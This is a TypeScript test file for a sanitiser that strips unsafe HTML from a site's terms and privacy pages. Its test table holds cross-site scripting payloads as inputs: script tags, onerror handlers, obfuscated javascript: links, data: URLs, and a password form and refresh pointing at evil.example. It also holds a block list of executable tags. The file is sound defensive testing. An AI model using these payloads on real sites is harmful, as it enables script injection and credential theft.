/**
 * The server's sanitiser of legal HTML against a table of what must go (scripts, styles, forms,
 * frames, event handlers, javascript: and data: links) and what must stay (plain text markup, links
 * to web pages and email addresses), with the one tag list of domain/legalHtml.ts.
 */
import { describe, expect, it } from 'vitest';
import { LEGAL_TAGS } from '../../domain/legalHtml.ts';
import { privacyPolicyHtml, termsHtml } from '../../server/db/demo/catalogue.ts';
import { sanitiseLegalHtml } from '../../server/services/legalHtml.ts';

describe('sanitiseLegalHtml', () => {
  it.each([
    ['a script and its code', '<p>Hi</p><script>alert(1)</script>', '<p>Hi</p>'],
    ['a style sheet and its rules', '<style>body { display: none }</style><p>Terms</p>', '<p>Terms</p>'],
    ['a form, its fields and buttons (their text stays)', '<form action="https://evil.example/steal"><input name="password"><button>Log in</button></form><p>x</p>', 'Log in<p>x</p>'],
    ['an event handler', '<p onclick="steal()">Tap</p><img src="x" onerror="steal()">', '<p>Tap</p>'],
    ['a javascript: link', '<a href="javascript:alert(1)">click</a>', '<a>click</a>'],
    ['an entity-hidden javascript: link', '<a href="jav&#x61;script:alert(1)">click</a>', '<a>click</a>'],
    ['a data: link', '<a href="data:text/html,<script>alert(1)</script>">x</a>', '<a>x</a>'],
    ['a protocol-relative link', '<a href="//evil.example">x</a>', '<a>x</a>'],
    ['a frame and an object', '<iframe src="https://evil.example"></iframe><object data="x.swf"></object><p>ok</p>', '<p>ok</p>'],
    ['a style attribute and classes', '<p style="position:fixed;inset:0" class="overlay" id="x">Text</p>', '<p>Text</p>'],
    ['a meta refresh and a base', '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example/"><p>a</p>', '<p>a</p>'],
    ['an svg with a script', '<svg><script>alert(1)</script><circle r="4"/></svg><p>b</p>', '<p>b</p>'],
    ['a link target and rel', '<a href="https://rajkotscoops.example/" target="_blank" rel="opener">site</a>', '<a href="https://rajkotscoops.example/">site</a>'],
  ])('removes %s', (_label, html, expected) => {
    expect(sanitiseLegalHtml(html)).toBe(expected);
  });

  it.each([
    ['paragraphs and headings', '<h2>Terms</h2><h3>Delivery</h3><p>We deliver across Rajkot.</p>'],
    ['lists', '<ul><li>one</li></ul><ol><li>two</li></ol>'],
    ['emphasis and line breaks', '<p><strong>Note</strong> <em>well</em><br />next line</p>'],
    ['web and email links, and links within the page', '<a href="https://rajkotscoops.example/terms">terms</a> <a href="mailto:hello@rajkotscoops.example">mail</a> <a href="#delivery">below</a>'],
  ])('keeps %s', (_label, html) => {
    expect(sanitiseLegalHtml(html)).toBe(html);
  });

  it('keeps the demo texts as they are', () => {
    expect(sanitiseLegalHtml(privacyPolicyHtml)).toBe(privacyPolicyHtml);
    expect(sanitiseLegalHtml(termsHtml)).toBe(termsHtml);
  });

  it('the tag list holds no tag that can run, style or submit anything', () => {
    for (const tag of ['script', 'style', 'form', 'input', 'button', 'iframe', 'object', 'embed', 'img', 'svg', 'link', 'meta', 'base', 'template']) {
      expect(LEGAL_TAGS as readonly string[]).not.toContain(tag);
    }
  });
});
